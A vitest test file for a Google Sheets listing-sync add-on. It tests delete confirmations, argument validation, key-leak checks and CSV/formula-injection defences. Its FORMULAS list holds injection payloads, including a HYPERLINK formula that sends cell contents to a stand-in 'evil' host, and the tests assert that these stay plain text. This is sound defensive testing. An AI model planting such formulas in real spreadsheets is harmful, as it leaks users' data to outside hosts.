import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { COLLEAGUE, kindOf, SECRET_KEY, succeed } from '../listing-sheet.ts';
import { LISTING_HEADERS, listingRow, listingRows, records } from '../listings.ts';
import { collectEvidence } from './evidence.ts';
import { describeGuards } from './guards.ts';
import { keysOf } from './plot.ts';
import { openStage, type Scene, type Stage } from './stage.ts';
import { foreignInputs, LOG_TAB } from './tab-texts.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await openStage();
});
afterAll(() => stage.close());

const NUMBERS = ['A1', 'A2', 'A3', 'A4'] as const;
const openListings = () => stage.begin({ rows: listingRows(...NUMBERS), platform: { listings: records(...NUMBERS) } });
const remove = { action: 'delete', scope: 'selection' } as const;

describe('a selection', () => {
  test.each([
    ['of every cell', ['A1:Z1000']],
    ['of whole columns', ['A:C']],
    ['of whole rows, the header among them', ['1:1000']],
    ['of ranges that overlap', ['A2:C5', 'B3:D4', 'A1:A1000']],
  ])('%s means each row below the header once', async (_, a1s) => {
    const scene = await openListings();
    scene.emulator.hands.select('Tab', a1s);
    const progress = await scene.run({ action: 'sync', scope: 'selection' });
    expect(progress).toMatchObject({ total: 4, counts: { Updated: 4 } });
    expect(scene.requests().flatMap(keysOf).sort()).toEqual([...NUMBERS]);
    scene.end();
  });

  test('of every cell deletes only the rows that a filter shows', async () => {
    const scene = await openListings();
    scene.emulator.hands.filter('Tab', { columnNumber: 1, texts: ['A2', 'A4'] });
    scene.emulator.hands.select('Tab', ['A1:Z1000']);
    const asked = succeed(await scene.ask('startRun', remove));
    expect(asked).toMatchObject({ kind: 'confirmDeletes', confirmation: { count: 2, firstKeys: ['A2', 'A4'] } });
    expect(await scene.run(remove)).toMatchObject({ hiddenRows: 2, counts: { Deleted: 2 } });
    expect(scene.platform.listings().map((record) => record.MLSNumber)).toEqual(['A1', 'A3']);
    scene.end();
  });

  test.each([
    ['the header row only', ['A1:T1']],
    ['rows below the data', ['A50:C60']],
    ['rows that a filter hides', ['A2:A3']],
  ])('of %s starts nothing', async (_, a1s) => {
    const scene = await openListings();
    scene.emulator.hands.filter('Tab', { columnNumber: 1, texts: ['A4'] });
    scene.emulator.hands.select('Tab', a1s);
    for (const action of ['sync', 'delete', 'push'] as const) {
      expect(kindOf(await scene.ask('startRun', { action, scope: 'selection' }))).not.toBe('ok');
    }
    expect(scene.requests()).toEqual([]);
    expect(scene.column('Sync status')).toEqual([]);
    scene.end();
  });
});

describe('a delete', () => {
  const all = { action: 'delete', scope: 'tab' } as const;

  test('happens neither without the word of a person nor with a wrong one', async () => {
    const scene = await openListings();
    expect(succeed(await scene.ask('startRun', all)).kind).toBe('confirmDeletes');
    for (const deleteToken of ['', 'yes', '0'.repeat(32)]) {
      expect(kindOf(await scene.ask('startRun', { ...all, deleteToken }))).not.toBe('ok');
    }
    expect(scene.requests()).toEqual([]);
    expect(scene.platform.listings()).toHaveLength(4);
    scene.end();
  });

  test('does not happen with the word that was given for other rows', async () => {
    const scene = await openListings();
    scene.emulator.hands.select('Tab', ['A2:A3']);
    const asked = succeed(await scene.ask('startRun', remove));
    const deleteToken = asked.kind === 'confirmDeletes' ? asked.confirmation.deleteToken : '';
    scene.emulator.hands.select('Tab', ['A2:A4']);
    expect(kindOf(await scene.ask('startRun', { ...remove, deleteToken }))).toBe('deletesChanged');
    scene.emulator.hands.select('Tab', ['A2:A3']);
    scene.emulator.hands.type('Tab', 'A3', 'A4');
    expect(kindOf(await scene.ask('startRun', { ...remove, deleteToken }))).toBe('deletesChanged');
    expect(scene.platform.listings()).toHaveLength(4);
    scene.end();
  });

  test('that a row has become while the run was waiting is held back', async () => {
    const scene = await openListings();
    const progress = await scene.start({ action: 'sync', scope: 'tab' });
    scene.emulator.hands.type('Tab', 'B3', 'Withdrawn');
    await scene.finish(progress);
    expect(scene.column('Sync status')).toEqual(['Updated', 'Skipped', 'Updated', 'Updated']);
    expect(scene.platform.listings()).toHaveLength(4);
    scene.end();
  });

  test('of another key than the one that was agreed to is held back', async () => {
    const scene = await openListings();
    const progress = await scene.start({ action: 'delete', scope: 'tab' });
    scene.emulator.hands.deleteRows('Tab', 5, 1);
    scene.emulator.hands.type('Tab', 'A3', 'A4');
    await scene.finish(progress);
    expect(scene.platform.listings().map((record) => record.MLSNumber)).toEqual(['A2', 'A4']);
    scene.end();
  });

  test('is never sent by the background trigger when nobody started a run', async () => {
    const scene = await openListings();
    const report = await scene.call('continueRunByTrigger', undefined, { source: 'trigger' });
    expect(report.outcome.kind).toBe('returned');
    expect(scene.requests()).toEqual([]);
    scene.end();
  });
});

describe('an argument that no sidebar sends', () => {
  test.each([
    ['no argument', undefined],
    ['no action', { scope: 'tab' }],
    ['an unknown action', { action: 'deleteAll', scope: 'tab' }],
    ['an unknown scope', { action: 'delete', scope: 'spreadsheet' }],
    ['a token that is no text', { action: 'delete', scope: 'tab', deleteToken: true }],
    ['a list', [{ action: 'delete', scope: 'tab' }]],
  ])('starts nothing: %s', async (_, argument) => {
    const scene = await openListings();
    expect(kindOf(await scene.ask('startRun', argument))).toBe('badArgument');
    expect(scene.requests()).toEqual([]);
    scene.end();
  });
});

/** What spreadsheets take for a formula, and what hides one. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example.com/?"&A1,"click")',
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  "'=1+1",
  '\t=1+1',
  '\n=1+1',
  '=1+1',
] as const;

describe('text that looks like a formula', () => {
  test.each(FORMULAS)('stays text when the platform says it: %j', async (text) => {
    const scene = await openListings();
    const fault = { kind: 'businessError', code: 400, message: text } as const;
    scene.platform.faults.add({ fault });
    await scene.run({ action: 'sync', scope: 'tab' });
    expect(new Set(scene.column('Sync status'))).toEqual(new Set(['Rejected']));
    expect(await formulasIn(scene)).toEqual([]);
    scene.end();
  });

  test.each(FORMULAS)('stays text when it is a key, the name of the tab and a gone row’s label: %j', async (text) => {
    const rows = [
      LISTING_HEADERS,
      listingRow(`'${text}`, { 'Listing URL': 'https://homes.example.com/1' }),
      listingRow('A2'),
      listingRow('A3', { Bedrooms: `'${text}` }),
    ];
    const scene = await stage.begin({ rows, platform: { listings: records('A2', 'A3') } });
    const foreign = foreignInputs(scene.emulator.hands.snapshot());
    const name = text.trim().slice(0, 40);
    scene.emulator.hands.renameTab('Tab', name);
    const progress = await scene.start({ action: 'sync', scope: 'tab' });
    const stop = scene.platform.journal.onEntry(() => {
      stop();
      scene.emulator.hands.deleteRows(name, 2, 1);
    });
    await scene.finish(progress);
    expect(foreignInputs(scene.emulator.hands.snapshot())).toEqual(foreign.filter((_, rowIndex) => rowIndex !== 1));
    expect(await formulasIn(scene)).toEqual([]);
    expect(scene.column('Outcomes of rows that were gone', LOG_TAB)[0]).toContain('Not found');
    scene.end();
  });

  /** Every formula in the spreadsheet, as Google sees them; the people of these tests type none. */
  async function formulasIn({ emulator }: Scene): Promise<unknown> {
    const report = await emulator.evaluate(`
      return SpreadsheetApp.getActiveSpreadsheet().getSheets()
        .flatMap((sheet) => sheet.getDataRange().getFormulas().flat())
        .filter((formula) => formula !== '');`);
    return report.outcome.kind === 'returned' ? report.outcome.value : report.outcome;
  }
});

test('a key or an empty list would be noticed wherever it stood', () => {
  const { leaks, emptyRequests, lookAtText, lookAtCall, lookAtRequest } = collectEvidence();
  const report = { serviceCalls: {}, serviceCallCount: 0, trace: [], virtualMs: 0, fetchedUrls: 0 } as const;
  lookAtText('cell', `bad ${SECRET_KEY.slice(0, -3)}`);
  lookAtCall({ ...report, outcome: { kind: 'returned', value: { message: SECRET_KEY } }, logs: [`"${SECRET_KEY}"`] });
  const entry = {
    number: 1,
    receivedAt: 0,
    method: 'POST',
    headers: {},
    bodyBytes: 0,
    status: 200,
    answer: '',
  } as const;
  lookAtRequest({ ...entry, path: '/?key=[redacted]', endpoint: 'GetSource', body: {}, isApplied: false });
  lookAtRequest({ ...entry, path: '/', endpoint: 'RealEstateDelete', body: { Keys: [] }, isApplied: false });
  expect(leaks.map((leak) => leak.split(':')[0])).toEqual(['cell', 'answer', 'log', 'request']);
  expect(leaks.join('\n')).not.toContain(SECRET_KEY);
  expect(emptyRequests).toEqual(['RealEstateDelete: {"Keys":[]}']);
});

describe('the key', () => {
  const secretive = { kind: 'businessError', code: 400 } as const;

  test.each([
    ['a refusal', { ...secretive, message: `bad key ${SECRET_KEY}` }],
    ['a refusal that spells it in another way', { ...secretive, message: `key=${encodeURIComponent(SECRET_KEY)}&x` }],
    ['a refusal that cuts it', { ...secretive, message: `${'x'.repeat(290)}${SECRET_KEY}` }],
    ['data of a wrong type', { kind: 'wrongData', data: SECRET_KEY, isAfterWrite: true }],
    ['an expired key', { kind: 'keyExpired' }],
    ['a broken connection', { kind: 'dropBefore' }],
  ] as const)('is not in anything a person sees after %s, from the sidebar and from the menu', async (_, fault) => {
    const scene = await openListings();
    scene.platform.faults.add({ fault });
    await scene.run({ action: 'sync', scope: 'tab' });
    scene.emulator.hands.select('Tab', ['A2:A5']);
    await scene.call('syncSelectedListings', undefined, { source: 'menu' });
    await scene.call('retryFailedRows', undefined, { source: 'menu' });
    await scene.ask('getOverview');
    await scene.ask('testConnection');
    await scene.ask('previewRow', { action: 'sync', rowNumber: 2 });
    await scene.ask('getOverview', undefined, COLLEAGUE);
    scene.end();
    expect(stage.evidence.leaks).toEqual([]);
  });

  test('of the owner is nothing that a colleague’s calls can bring to light', async () => {
    const scene = await openListings();
    const report = await scene.call('getOverview', undefined, { user: COLLEAGUE });
    expect(JSON.stringify(report)).not.toContain('test-secret-key');
    expect(JSON.stringify(scene.emulator.properties('document'))).not.toContain('test-secret-key');
    scene.end();
  });
});

describeGuards(() => stage);
